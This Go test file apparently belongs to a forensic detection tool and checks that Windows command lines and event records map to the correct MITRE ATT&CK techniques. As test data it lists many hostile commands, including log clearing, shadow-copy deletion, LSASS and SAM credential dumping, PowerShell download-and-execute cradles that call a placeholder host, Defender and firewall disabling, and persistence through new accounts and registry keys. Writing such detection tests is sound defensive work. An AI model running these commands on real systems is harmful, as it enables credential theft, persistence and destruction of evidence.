package story

import (
	"slices"
	"testing"

	"github.com/artifactdump/artifactdump/artifacts/findings"
)

// TestTacticTable: a line names a technique of ATT&CK and one of its tactics, and each
// name for a tactic is there in both languages.
func TestTacticTable(t *testing.T) {
	check := func(where string, v shown) {
		info, ok := findings.Technique(v.technique)
		if !ok || !slices.Contains(info.Tactics, v.tactic) {
			t.Errorf("%s: %s is not a technique of %s: %v", where, v.technique, v.tactic, info.Tactics)
		}
		if tacticJA[v.tactic] == "" || TacticName(v.tactic, "en") == v.tactic {
			t.Errorf("%s: no name for %q", where, v.tactic)
		}
	}
	for _, r := range tacticRows() {
		check("data/tactics.txt", r.shown)
	}
	for id, v := range ruleShows {
		if v != (shown{}) {
			check(id, v)
		}
	}
	rules := map[string]bool{}
	for _, r := range findings.Rules() {
		rules[r.ID] = true
	}
	for id := range ruleShows {
		if !rules[id] {
			t.Errorf("%s is no rule", id)
		}
	}
	for _, id := range slices.Concat(startRules, seenRules) {
		if !rules[id] {
			t.Errorf("%s is no rule", id)
		}
	}
}

// TestCommandTactics holds the table to commands whose purpose is plain, and to some
// that show none.
func TestCommandTactics(t *testing.T) {
	for _, c := range []struct{ stem, line, want string }{
		{"wevtutil", `wevtutil cl Security`, "T1070.001 defense-evasion"},
		{"wevtutil", `"C:\Windows\System32\wevtutil.exe" qe Security /c:5`, "T1654 discovery"},
		{"wevtutil", `wevtutil sl Security /e:false`, "T1562.002 defense-evasion"},
		{"cmd", `cmd /c "w^evtutil c^l System"`, "T1070.001 defense-evasion"},
		{"vssadmin", `vssadmin delete shadows /all /quiet`, "T1490 impact"},
		{"vssadmin", `vssadmin list shadows`, ""},
		{"wbadmin", `wbadmin delete catalog -quiet`, "T1490 impact"},
		{"schtasks", `schtasks /create /tn x /tr c:\x.exe /sc onlogon`, "T1053.005 persistence"},
		{"schtasks", `schtasks /create /tn x /tr c:\x.exe /sc once /st 12:00`, "T1053.005 execution"},
		{"schtasks", `schtasks /query`, ""},
		{"net", `net user bob Pass /add`, "T1136.001 persistence"},
		{"net1", `C:\Windows\system32\net1 user bob Pass /add /domain`, "T1136.002 persistence"},
		{"net", `net user guest /active:yes`, "T1098 persistence"},
		{"net", `net user bob /delete`, "T1531 impact"},
		{"net", `net user`, "T1087.001 discovery"},
		{"net", `net localgroup administrators bob /add`, "T1098.007 persistence"},
		{"net", `net localgroup administrators`, "T1069.001 discovery"},
		{"net", `net group "domain admins" /domain`, "T1069.002 discovery"},
		{"net", `net use z: \\srv\c$ /user:x y`, "T1021.002 lateral-movement"},
		{"net", `net view`, "T1018 discovery"},
		{"reg", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d c:\x.exe`, "T1547.001 persistence"},
		{"reg", `reg save HKLM\SAM c:\s`, "T1003.002 credential-access"},
		{"reg", `REG ADD "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths" /v C:\TMP`, "T1562.001 defense-evasion"},
		{"reg", `reg query HKLM\Software`, "T1012 discovery"},
		{"reg", `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger`,
			"T1546.008 persistence"},
		{"procdump64", `procdump64 -accepteula -ma lsass.exe c:\x.dmp`, "T1003.001 credential-access"},
		{"procdump64", `procdump64 -ma notepad.exe`, ""},
		{"rundll32", `rundll32 comsvcs.dll, MiniDump 4868 c:\x full`, "T1003.001 credential-access"},
		{"rundll32", `rundll32 c:\users\public\x.dll,#1`, "T1218.011 defense-evasion"},
		{"ntdsutil", `ntdsutil "ac i ntds" "ifm" "create full c:\x" q q`, "T1003.003 credential-access"},
		{"certutil", `certutil -urlcache -split -f http://x/y z`, "T1105 command-and-control"},
		{"certutil", `certutil -decode a b`, "T1140 defense-evasion"},
		{"bitsadmin", `bitsadmin /transfer j http://x/y c:\z`, "T1105 command-and-control"},
		{"rar", `rar a -hpx c:\o.rar c:\docs`, "T1560.001 collection"},
		{"7z", `"C:\t\7z.exe" e -px c:\a.7z`, ""},
		{"rclone", `rclone copy c:\x remote:`, "T1567.002 exfiltration"},
		{"powershell", `powershell -enc dwBlAHYAdAB1AHQAaQBsACAAYwBsACAAUwBlAGMAdQByAGkAdAB5AA==`, "T1070.001 defense-evasion"},
		{"powershell", `powershell iex (new-object net.webclient).downloadstring('http://x/y.ps1')`, "T1059.001 execution"},
		{"powershell", `powershell (new-object net.webclient).downloadfile('http://x/y','z')`, "T1105 command-and-control"},
		{"powershell", `powershell Set-MpPreference -DisableRealtimeMonitoring $true`, "T1562.001 defense-evasion"},
		{"psexec", `psexec \\srv cmd`, "T1021.002 lateral-movement"},
		{"netsh", `netsh interface portproxy add v4tov4 listenport=1 connectport=2`, "T1090.001 command-and-control"},
		{"netsh", `netsh advfirewall set allprofiles state off`, "T1562.004 defense-evasion"},
		{"sc", `sc create x binPath= "c:\x.exe" start= auto`, "T1543.003 persistence"},
		{"sc", `sc query`, "T1007 discovery"},
		{"wmic", `wmic /node:srv process call create "cmd"`, "T1047 execution"},
		{"wmic", `wmic shadowcopy delete`, "T1490 impact"},
		{"eventcreate", `eventcreate /l system /d "A service was installed"`, ""},
		{"notepad", `notepad c:\users\bob\net.txt`, ""},
		{"setup", `setup.exe /install /quiet`, ""},
	} {
		v := showsText(c.stem, c.line)
		if c.stem == "powershell" {
			v = (&gathering{texts: map[string]shown{}}).command(c.stem, c.line)
		}
		got := v.technique + " " + v.tactic
		if v == (shown{}) {
			got = ""
		}
		if got != c.want {
			t.Errorf("%s shows %q, want %q", c.line, got, c.want)
		}
	}
}

// TestCommandTacticsBounded: evidence can hold any number of long command lines.
func TestCommandTacticsBounded(t *testing.T) {
	g := &gathering{texts: map[string]shown{}}
	for i := range maxShownTexts + 10 {
		g.command("cmd", "whoami "+string(rune('a'+i%26))+string(rune(0x4e00+i)))
	}
	if len(g.texts) != maxShownTexts {
		t.Errorf("%d texts are kept", len(g.texts))
	}
}

// TestRecordTactics: what the record of one rule shows depends on what it holds.
func TestRecordTactics(t *testing.T) {
	g := &gathering{texts: map[string]shown{}, attack: map[string][]string{}}
	for _, r := range findings.Rules() {
		g.attack[r.ID] = r.Attack
	}
	for _, c := range []struct{ rule, quote, want string }{
		{"E-33", `a at 10.0.0.1 asked for \\*\IPC$\svcctl`, "execution"},
		{"E-33", `a at 10.0.0.1 asked for \\*\IPC$\spoolss`, "credential-access"},
		{"E-33", `a at 10.0.0.1 asked for \\*\IPC$\winreg`, ""},
		{"E-30", `a logged on, session 2, from 10.0.0.5`, "lateral-movement"},
		{"E-30", `a logged on, session 2, from 8.8.8.8`, "initial-access"},
		{"E-31", `a logged on (10, Remote Desktop) from 127.0.0.1 PC`, "command-and-control"},
		{"E-06", `Sysmon Stopped`, "defense-evasion"},
		{"E-06", `Sysmon configuration changed to C:\Tools\Sysmon64.exe -i`, ""},
		{"E-63", `x.exe made a thread in C:\Windows\System32\lsass.exe`, "credential-access"},
		{"E-63", `x.exe made a thread in C:\Windows\explorer.exe`, "defense-evasion"},
		{"E-71", `Defender found Trojan:Win32/X`, ""},
		{"E-36", `Remote Desktop from here to SRV`, "lateral-movement"},
		{"E-15", `a used the credentials of b for SRV`, ""},
	} {
		x := &said{best: c.rule, rules: []string{c.rule}, e: &findings.Evidence{Quote: c.quote}}
		if got := g.ofRecord(x).tactic; got != c.want {
			t.Errorf("%s %q shows %q, want %q", c.rule, c.quote, got, c.want)
		}
	}
}
